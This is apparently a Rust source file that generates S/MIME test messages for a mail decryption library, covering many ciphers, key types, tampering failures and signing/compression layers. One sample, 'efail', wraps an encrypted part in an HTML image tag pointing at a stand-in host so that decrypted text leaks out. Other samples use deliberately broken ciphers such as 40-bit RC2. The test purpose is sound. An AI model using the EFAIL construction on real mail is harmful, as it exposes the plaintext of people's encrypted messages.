//! `decrypt/`: encrypted and compressed mail. Alice, Bob and Erin have keys in `keys/`, Dave has none.

use mailseal::cms::build::Form;
use mailseal::crypto::content_cipher::CipherAlgorithm;
use mailseal::crypto::digest::DigestAlgorithm;

use crate::samples::Sample;
use crate::samples::cast;
use crate::samples::keys;
use crate::samples::verify::alice_from;
use crate::samples::verify::by;
use crate::samples::verify::headers;
use crate::toolkit::cms::BER;
use crate::toolkit::cms::Signed;
use crate::toolkit::enveloped::Encrypt;
use crate::toolkit::enveloped::Shared;
use crate::toolkit::enveloped::To;
use crate::toolkit::enveloped::compressed;
use crate::toolkit::mail;

use CipherAlgorithm::{
    Aes128Cbc, Aes128Ccm, Aes192Gcm, Aes256Cbc, Aes256Gcm, ChaCha20Poly1305, Rc2Cbc, TripleDesCbc,
};

pub fn samples() -> Vec<Sample> {
    let mut all = ciphers();
    all.extend(failures());
    all.extend(layers());
    all
}

fn ciphers() -> Vec<Sample> {
    let sha256 = DigestAlgorithm::Sha256;
    let sha512 = DigestAlgorithm::Sha512;
    let alice = || To::new(cast::alice());
    let bob = || To::new(cast::bob());
    let mut all = Vec::new();
    for (name, shows, cipher, to) in [
        (
            "rsa-v15",
            "RSA v1.5 and AES-128 in CBC mode: what most mail of the past is. Nothing authenticates it.",
            Aes128Cbc,
            alice(),
        ),
        (
            "rsa-oaep",
            "RSA-OAEP and AES-256-GCM in AuthEnvelopedData.",
            Aes256Gcm,
            alice().oaep(sha256, sha256, b""),
        ),
        (
            "rsa-oaep-label",
            "RSA-OAEP with different digests and a label.",
            Aes256Cbc,
            alice().oaep(sha512, sha256, b"label"),
        ),
        ("ecdh", "ECDH on P-256 and AES-256-CBC.", Aes256Cbc, bob()),
        (
            "x25519",
            "X25519 with HKDF and AES-192-GCM.",
            Aes192Gcm,
            To::new(cast::erin()),
        ),
        (
            "triple-des",
            "Triple DES, which S/MIME 3 demanded.",
            TripleDesCbc,
            alice(),
        ),
        ("chacha20", "ChaCha20-Poly1305.", ChaCha20Poly1305, bob()),
        ("ccm", "AES-128-CCM.", Aes128Ccm, bob()),
        (
            "key-identifier",
            "The recipient is named by subject key identifier.",
            Aes256Cbc,
            bob().by_key_identifier(),
        ),
    ] {
        all.push(one(name, shows, |text| {
            Encrypt::new(text, cipher).to(to.clone())
        }));
    }
    all.push(one(
        "several-recipients",
        "For Dave, whose key is not there, for Alice and for Bob.",
        |text| {
            Encrypt::new(text, Aes256Cbc)
                .to(To::new(cast::dave()))
                .to(To::new(cast::alice()))
                .to(To::new(cast::bob()))
        },
    ));
    all.push(one(
        "rc2-40",
        "RC2 with 40 effective bits, as S/MIME 2 of 1998 had to be outside the USA: broken.",
        |text| {
            Encrypt::new(text, Rc2Cbc)
                .rc2_bits(40)
                .to(To::new(cast::alice()))
        },
    ));
    all.push(one(
        "password",
        "Under a password, the one in `keys/password`: no certificate is needed.",
        |text| Encrypt::new(text, Aes256Cbc).shared(Shared::password(keys::PASSWORD.as_bytes())),
    ));
    all.push(one(
        "ber",
        "BER with indefinite lengths and the ciphertext in pieces.",
        |text| {
            Encrypt::new(text, Aes256Cbc)
                .to(To::new(cast::alice()))
                .form(BER)
        },
    ));
    all
}

fn failures() -> Vec<Sample> {
    vec![
        one("no-key", "For Dave only, whose key is not there.", |text| {
            Encrypt::new(text, Aes256Cbc).to(To::new(cast::dave()))
        }),
        one(
            "tampered-gcm",
            "A bit of the ciphertext was flipped: the tag tells, and no plaintext comes out.",
            |text| {
                Encrypt::new(text, Aes256Gcm)
                    .to(To::new(cast::alice()))
                    .flip_bit(600)
            },
        ),
        one(
            "tampered-cbc",
            "A bit of the ciphertext was flipped: CBC mode can't tell, and decrypts to something else (EFAIL).",
            // In the first block behind the header fields.
            |text| {
                Encrypt::new(text, Aes256Cbc)
                    .to(To::new(cast::alice()))
                    .flip_bit(8 * 100)
            },
        ),
        one(
            "wrong-content-key",
            "The encrypted key is damaged: all that can be said is that it failed.",
            |text| Encrypt::new(text, Aes256Gcm).to(To::new(cast::bob()).damaged()),
        ),
    ]
}

fn layers() -> Vec<Sample> {
    let mut all = Vec::new();
    let signed = |text: &[u8]| {
        let signature = Signed::detached(text).signer(by(cast::alice())).encode();
        mail::multipart_signed(text, &signature)
    };
    let encrypted = |entity: &[u8], cipher| {
        let cms = Encrypt::new(entity, cipher)
            .to(To::new(cast::bob()))
            .encode();
        mail::pkcs7_mime(smime_type(cipher), &cms)
    };
    let zipped =
        |entity: &[u8]| mail::pkcs7_mime("compressed-data", &compressed(entity, Form::Der));

    let shows =
        "Signed, then encrypted: the signature inside vouches for the plaintext of CBC mode.";
    let body = encrypted(&signed(&mail::text(shows)), Aes256Cbc);
    all.push(sample("signed-inside", shows, &body));

    let shows = "Encrypted, then signed: the signer vouches for the ciphertext only.";
    let inner = encrypted(&mail::text(shows), Aes256Cbc);
    all.push(sample("signed-outside", shows, &signed(&inner)));

    let shows = "Signed, encrypted, signed again (triple wrapping, RFC 2634).";
    let inner = encrypted(&signed(&mail::text(shows)), Aes256Gcm);
    let body = mail::multipart_signed_as(
        "sha-256",
        "outer",
        &inner,
        &Signed::detached(&inner).signer(by(cast::alice())).encode(),
    );
    all.push(sample("triple-wrap", shows, &body));

    let shows = "Compressed, and nothing else.";
    all.push(sample("compressed", shows, &zipped(&mail::text(shows))));

    let shows = "Compressed, signed, encrypted.";
    let body = encrypted(&signed(&zipped(&mail::text(shows))), Aes256Cbc);
    all.push(sample("compressed-signed-encrypted", shows, &body));

    let shows = "HTML parts around an encrypted part, so that careless programs send its text away (EFAIL).";
    let html = |text: &str| mail::entity("text/html", text.as_bytes());
    let body = mail::multipart(
        "mixed",
        "efail",
        &[
            &html("<img src=\"http://efail.example/"),
            &encrypted(&mail::text(shows), Aes256Cbc),
            &html("\">"),
        ],
    );
    all.push(sample("efail", shows, &body));
    all
}

fn smime_type(cipher: CipherAlgorithm) -> &'static str {
    if cipher.is_aead() {
        "authEnveloped-data"
    } else {
        "enveloped-data"
    }
}

/// A text in one encrypted layer.
fn one(
    name: &str,
    shows: &'static str,
    encrypt: impl for<'t> Fn(&'t [u8]) -> Encrypt<'t>,
) -> Sample {
    let text = mail::text(shows);
    let made = encrypt(&text);
    let body = mail::pkcs7_mime(smime_type(made.cipher), &made.encode());
    sample(name, shows, &body)
}

fn sample(name: &str, shows: &'static str, body: &[u8]) -> Sample {
    let message = mail::message(&headers(alice_from(), name), body);
    Sample::new(&format!("decrypt/{name}.eml"), shows, message)
}
